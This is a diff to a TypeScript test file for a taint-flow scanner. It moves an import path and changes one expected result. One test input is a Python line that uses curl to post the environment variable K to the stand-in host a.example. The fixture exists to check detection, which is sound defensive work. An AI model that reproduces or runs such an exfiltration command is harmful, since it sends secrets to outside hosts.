@@ -4,7 +4,7 @@ import type { Fact } from '../../../scanner/fact/fact.ts';
 import type { TaintSource } from '../../../scanner/fact/source.ts';
 import { Steps, StepsUsedUp } from '../../../scanner/fact/steps.ts';
 import { solveFlows } from '../../../scanner/flow/flow.ts';
-import { analysePython } from '../../../scanner/frontends/python/python.ts';
+import { analysePython } from '../../../scanner/languages/python/python.ts';
 import { isWhole } from '../../sample.ts';
 
 function unread(...texts: readonly string[]): readonly string[] {
@@ -208,7 +208,7 @@ describe('what flows', () => {
     [
       'into a program',
       'import os, subprocess\nsubprocess.run(["curl", "-d", os.environ["K"], "https://a.example/"])',
-      'flow env K -> network https://a.example/',
+      'flow env K -> exec',
     ],
     [
       'into code',
